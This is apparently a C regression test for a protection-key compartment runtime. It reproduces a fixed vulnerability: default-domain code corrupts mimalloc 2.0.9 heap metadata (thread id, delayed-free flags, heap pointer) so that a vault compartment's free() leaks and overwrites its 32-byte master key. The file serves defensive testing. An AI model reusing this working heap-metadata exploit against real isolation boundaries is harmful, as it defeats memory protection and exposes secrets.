// Review (third attacker-A review), the free() side of
// attacks-review3-shared-alloc-rights.c: a compartment may free
// default-heap memory it is given (docs/heaps.md), and free() of a block
// outside the compartment regions calls the process-wide mimalloc
// (heap.c: mi_free) with the compartment's rights, on page and segment
// headers that are key-0 memory. The default domain changes three words
// of the shared heap's bookkeeping for the buffer it hands the vault: the
// segment's thread id (so the free takes the cross-thread path), the
// page's thread-free flags (MI_USE_DELAYED_FREE, as for a full page) and
// the page's heap, pointed so that the heap's thread_delayed_free list
// head is a word of the vault's key. mimalloc, with the vault's rights,
// then links the buffer in front of that "list": it reads the vault's
// word and stores it as the buffer's next pointer (the vault's 8 bytes in
// the freed buffer, key-0 memory), and writes the buffer's address over
// the vault's word. Four frees read the 32-byte key and change it. No
// call of the bulkhead_shared_* API, no libc: only free() of a caller's
// buffer, which the docs allow. Offsets are mimalloc 2.0.9's (Debian 12),
// checked on the live heap before use (the page's heap is this thread's
// default heap, the segment's thread id this thread's).
// Fixed as attacks-review3-shared-alloc-rights.c (runtime/shared-heap.c):
// the free runs with the default domain's rights and faults on the vault's
// key, which stops the process. Before the fix: "LEAK" and "CHANGED".
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t && %run %t
#include "Inputs/check.h"
#include "Inputs/key-words-verdict.h"

static const char original[32] = "vault master key 0123456789abcd";
BULKHEAD_DATA(vault) static char master[32] = "vault master key 0123456789abcd";

/* Takes ownership of a caller's buffer: uses it, then frees it. */
BULKHEAD_ENTRY(vault) int vault_consume(char *buf) {
  int n = (int)strlen(buf);
  free(buf);
  return n;
}

BULKHEAD_ENTRY(vault) int vault_key_intact(void) {
  return !memcmp(master, original, sizeof master);
}

/* mimalloc 2.0.9, release build (Debian 12's libmimalloc.so.2). */
#define SEGMENT_SIZE ((uintptr_t)32 << 20)
#define SLICE_SHIFT 16
#define SEG_THREAD_ID 256 /* mi_segment_t.thread_id */
#define SEG_SLICES 264    /* mi_segment_t.slices[] */
#define SLICE_SIZE 80     /* sizeof(mi_slice_t) == sizeof(mi_page_t) */
#define SLICE_OFFSET 4    /* mi_page_t.slice_offset (uint32) */
#define PAGE_XTHREAD_FREE 40
#define PAGE_XHEAP 48
#define HEAP_THREAD_DELAYED_FREE 2840

extern void *mi_heap_get_default(void); /* only to check the offsets */

static int attack(void) {
  int vault_key = bulkhead_compartment_pkey("vault");
  CHECK(vault_key > 0 && page_pkey(master) == vault_key);
  char *plain = malloc(64);
  strcpy(plain, "hello");
  CHECK(vault_consume(plain) == 5); /* as it should be */
  CHECK(vault_key_intact());

  unsigned long words[4];
  for (int k = 0; k < 4; k++) {
    char *buf = malloc(64);
    CHECK(buf && page_pkey(buf) == 0);
    strcpy(buf, "hello");
    char *seg = (char *)((uintptr_t)buf & ~(SEGMENT_SIZE - 1));
    char *slice = seg + SEG_SLICES +
                  SLICE_SIZE * (((uintptr_t)buf - (uintptr_t)seg) >> SLICE_SHIFT);
    char *page = slice - *(uint32_t *)(slice + SLICE_OFFSET);
    uintptr_t *tid = (uintptr_t *)(seg + SEG_THREAD_ID);
    uintptr_t *tfree = (uintptr_t *)(page + PAGE_XTHREAD_FREE);
    void **heap = (void **)(page + PAGE_XHEAP);
    uintptr_t tp;
    __asm__("movq %%fs:0, %0" : "=r"(tp));
    CHECK(*heap == mi_heap_get_default() && *tid == tp); /* the layout holds */
    uintptr_t real_tid = *tid, real_tfree = *tfree;
    void *real_heap = *heap;
    *tid = real_tid ^ 1;                 /* not this thread's: cross-thread free */
    *tfree = real_tfree & ~(uintptr_t)3; /* MI_USE_DELAYED_FREE */
    *heap = master + 8 * k - HEAP_THREAD_DELAYED_FREE;
    CHECK(vault_consume(buf) == 5);
    *tid = real_tid, *tfree = real_tfree, *heap = real_heap;
    words[k] = *(unsigned long *)buf; /* the vault's word, in key-0 memory */
  }
  return key_words_verdict("attacks-review3-shared-free-rights", words, original,
                           vault_key_intact());
}

int main(void) {
  return attack_in_child("attacks-review3-shared-free-rights", attack);
}
